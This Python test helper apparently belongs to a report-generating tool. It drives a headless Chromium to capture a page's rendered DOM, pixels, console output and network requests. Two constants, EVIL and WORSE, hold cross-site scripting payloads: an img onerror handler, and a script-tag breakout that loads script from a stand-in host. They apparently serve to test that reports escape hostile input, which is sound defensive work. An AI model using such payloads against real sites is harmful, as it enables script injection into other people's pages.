"""A page in a real browser: what it shows, what it says on its console, and what it asks the network for."""

from __future__ import annotations

import html
import os
import re
import shutil
import subprocess
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

__all__ = ["BLUE", "EVIL", "HOST", "RED", "WORSE", "Shown"]

HOST = "planner-report.invalid"
EVIL = f'<img src="http://{HOST}/x.png" onerror="document.documentElement.dataset.pwned=1">'
WORSE = f'</script><script src="http://{HOST}/x.js"></script><script>document.documentElement.dataset.pwned=2</script>'
OPTIONS = (
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-dev-shm-usage",
    "--hide-scrollbars",
    "--enable-logging=stderr",
    "--virtual-time-budget=5000",
    "--window-size=1200,1500",
)
BROWSERS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
BLUE, RED = (0x42, 0x69, 0xD0), (0xD9, 0x2F, 0x1C)


class Shown:
    """A page as the browser shows it: its DOM after the scripts, pixels, console, and what it asked of the network."""

    def __init__(self, page: Path, *options: str) -> None:
        browser = os.environ.get("PLANNER_CHROMIUM") or next(filter(None, map(shutil.which, BROWSERS)), None)
        if browser is None:
            pytest.skip(f"none of {', '.join(BROWSERS)} is on the PATH; PLANNER_CHROMIUM can name a browser")
        picture, log, profile = (page.with_suffix(suffix) for suffix in (".png", ".netlog", ".profile"))
        own = (f"--user-data-dir={profile}", f"--log-net-log={log}", "--dump-dom", f"--screenshot={picture}")
        command = [browser, *OPTIONS, *options, *own, page.as_uri()]
        done = subprocess.run(command, capture_output=True, timeout=120, check=False)
        assert done.returncode == 0 and picture.exists(), done.stderr.decode(errors="replace")[-2000:]
        self.dom = done.stdout.decode()
        self.console = [line for line in done.stderr.decode(errors="replace").splitlines() if "CONSOLE" in line]
        self.pixels = np.asarray(Image.open(picture).convert("RGB"))
        self.log = log.read_text(encoding="utf-8", errors="replace")
        root = re.search("<(?:html|svg)[^>]*>", self.dom)[0]
        self.data = {name: html.unescape(value) for name, value in re.findall('data-([a-z-]+)="([^"]*)"', root)}

    def count(self, colour: tuple[int, int, int], tolerance: int = 3) -> int:
        """Count the pixels of a colour."""
        return int((np.abs(self.pixels.astype(int) - colour).max(axis=2) <= tolerance).sum())
